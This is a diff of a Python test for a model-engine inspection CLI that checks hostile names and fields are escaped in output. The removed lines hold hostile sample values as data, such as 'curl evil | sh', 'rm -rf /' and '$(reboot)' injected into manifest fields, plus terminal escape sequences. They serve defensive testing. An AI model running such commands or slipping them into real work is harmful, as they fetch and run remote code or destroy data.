@@ -15,7 +15,7 @@ from click.testing import CliRunner, Result
 from fpabee import __version__
 from fpabee.runtime import Budget
 from fpabee.runtime.artifact.folder import read_manifest, write_manifest
-from fpabee.runtime.artifact.manifest import REFERENCE_NAME, NotBuilt
+from fpabee.runtime.artifact.manifest import REFERENCE_NAME
 from fpabee.runtime.artifact.reference import read_reference, write_reference
 from fpabee.runtime.backends.cuda_probe import CudaDevice
 from fpabee.runtime.cli.inspect import chain_table, main
@@ -61,32 +61,20 @@ def test_a_folder_is_described(
 NASTY = "\x1b]0;title\x07\x1b[2J\u202e[red]"
 
 
-def test_names_from_files_are_escaped_and_no_command_of_theirs_is_shown(
+def test_names_from_files_are_escaped(
     engine_copy: Callable[..., Path], set_points: Callable[..., None]
 ) -> None:
     folder = engine_copy()
     set_points(folder, **{NASTY: Budget(exit=1)})
     manifest = read_manifest(folder)
-    notes = {
-        "known": NotBuilt(
-            backend="tensorrt", precision="fp16", reason=NASTY, command="curl evil | sh"
-        ),
-        NASTY: NotBuilt(backend="x; rm -rf /", precision="fp16", reason="", command="rm -rf /"),
-        "odd": NotBuilt(backend="tensorrt", precision="$(reboot)", reason="", command="reboot"),
-    }
     task = msgspec.structs.replace(manifest.task, labels=(NASTY, *manifest.task.labels[1:]))
-    changed = msgspec.structs.replace(manifest, task=task, not_built=notes)
+    changed = msgspec.structs.replace(manifest, task=task)
     write_manifest(folder, changed)
     shown = run(folder).stdout
     assert "\\x1b]0;title\\x07\\x1b[2J\\u202e[red]" in shown
     assert shown.replace("\n", "").isprintable()
-    assert f"  to build it: fpabee-export --from {folder} --backend tensorrt --fp16\n" in shown
-    assert shown.count("  to build it: pip install -U fpabee\n") == 2
-    for command in ("curl", "rm -rf", "reboot"):
-        assert command not in shown
     content = json.loads(run(folder, "--json").stdout)
     assert content["labels"][0] == NASTY
-    assert content["not_built"]["known"]["command"] == "curl evil | sh"
 
 
 def test_the_chain_is_a_table(engines: Mapping[str, Path]) -> None:
